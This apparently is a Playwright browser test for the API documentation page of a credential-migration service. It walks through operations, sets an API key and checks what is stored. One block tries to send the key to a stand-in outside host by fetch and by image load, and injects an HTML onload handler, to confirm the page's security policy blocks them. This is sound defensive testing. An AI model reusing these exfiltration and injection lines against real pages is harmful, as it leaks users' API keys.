// Visits the page KEYFERRY_URL/docs as a user who tries the API out: opens it, reads an operation and the fields of an app's
// credential, types an API key, lists the accounts, and comes back later. Prints the results to the standard output as one
// JSON object. The browser can reach only the server.
import { createRequire } from "node:module";
import { join } from "node:path";

const { KEYFERRY_BROWSER, KEYFERRY_CHROMIUM, KEYFERRY_PROFILE, KEYFERRY_URL, KEYFERRY_API_KEY, KEYFERRY_SCREENSHOT } = process.env;
const require = createRequire(join(KEYFERRY_BROWSER, "package.json"));
const { chromium } = require("playwright-core");

const context = await chromium.launchPersistentContext(KEYFERRY_PROFILE, {
    executablePath: KEYFERRY_CHROMIUM,
    headless: true,
    chromiumSandbox: false,
    viewport: { width: 1440, height: 1000 },
    args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
    ],
});
context.setDefaultTimeout(60_000);
const page = context.pages()[0] ?? (await context.newPage());

const requests = [];
const complaints = [];
page.on("request", (request) => requests.push({ url: request.url(), key: request.headers()["x-api-key"] ?? null }));
page.on("console", (message) => ["error", "warning"].includes(message.type()) && complaints.push(message.text()));
page.on("pageerror", (error) => complaints.push(String(error)));
await page.exposeFunction("violated", (directive, uri) => complaints.push(`policy: ${directive} ${uri}`));
await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => violated(event.effectiveDirective, event.blockedURI));
});

const menu = page.locator("nav.nav-bar");
const content = page.locator("openapi-explorer main");
const open = async (name) => {
    await menu.getByText(name, { exact: true }).first().click();
};
// The text of an element, including the shadow trees of its parts.
const text = (locator) =>
    locator.evaluate((element) => {
        const inside = (node) => {
            const children = [...(node.shadowRoot?.childNodes ?? []), ...node.childNodes];
            const own = node.nodeType === Node.TEXT_NODE ? node.textContent.trim() : "";
            return node.nodeName === "STYLE" ? "" : [own, ...children.map(inside)].filter(Boolean).join(" ");
        };
        return inside(element);
    });

await page.goto(`${KEYFERRY_URL}/`);
await menu.getByText("Front ends", { exact: true }).waitFor();
const seen = { arrived: page.url().split("#")[0], title: await page.title(), menu: await text(menu), overview: await text(content) };

await open("Put a credential onto a linked account");
await content.getByText("/api/v2/public/migrate-token").first().waitFor();
seen.operation = await text(content);
// The initial values of the fields, by parameter name.
seen.placeholders = await content
    .locator("input[data-pname]")
    .evaluateAll((all) => Object.fromEntries(all.map((input) => [input.dataset.pname, input.placeholder])));
await page.screenshot({ path: KEYFERRY_SCREENSHOT });

await open("Import many credentials");
await content.getByText("max_failures").first().waitFor();
seen.parameters = await text(content);
seen.choices = await content
    .locator("select[data-pname]")
    .evaluateAll((all) => Object.fromEntries(all.map((s) => [s.dataset.pname, [...s.options].map((o) => o.text.trim())])));
seen.placeholders = { ...seen.placeholders, ...(await content
    .locator("input[data-pname]")
    .evaluateAll((all) => Object.fromEntries(all.map((input) => [input.dataset.pname, input.placeholder])))) };
seen.file = await content.locator("textarea").evaluateAll((all) => all.map((area) => area.value).join("\n"));

await open("HubSpot");
seen.schema = await text(content.locator("[id='cmp--schemas-migratetoken.hubspot']"));

await open("Authentication");
const key = content.locator("tr", { hasText: "x-api-key" });
await key.locator("input").fill(KEYFERRY_API_KEY);
await key.getByText("SET").click();
await open("List linked accounts");
const answer = page.waitForResponse((response) => response.url().includes("/api/"));
await content.getByText("EXECUTE").click();
seen.tried = (await answer).status();
await content.getByText("user_1").first().waitFor();
seen.requests = [...requests];
seen.complaints = [...complaints];

// A page that was talked into it would still not send a key elsewhere, or do what a text that it shows says.
const before = complaints.length;
seen.sent = await page.evaluate(async (key) => {
    const elsewhere = "https://elsewhere.example/";
    const attempts = {
        fetch: () => fetch(elsewhere, { headers: { "x-api-key": key } }),
        image: () => new Promise((sent, refused) => Object.assign(new Image(), { onload: sent, onerror: refused, src: elsewhere })),
        text: () => {
            document.body.insertAdjacentHTML("beforeend", `<img src="docs/icon.svg" onload="window.ran = true">`);
            return new Promise((later) => setTimeout(later, 500)).then(() => window.ran || Promise.reject());
        },
    };
    const worked = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        await attempt().then(() => worked.push(name), () => {});
    }
    return worked;
}, KEYFERRY_API_KEY);
seen.refused = complaints.slice(before).filter((complaint) => complaint.startsWith("policy: "));

const typed = requests.length;
await page.reload();
await open("List linked accounts");
const later = page.waitForResponse((response) => response.url().includes("/api/"));
await content.getByText("EXECUTE").click();
seen.later = (await later).status();
seen.laterKeys = requests.slice(typed).filter((request) => request.key !== null);
seen.stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
await context.close();
console.log(JSON.stringify(seen));
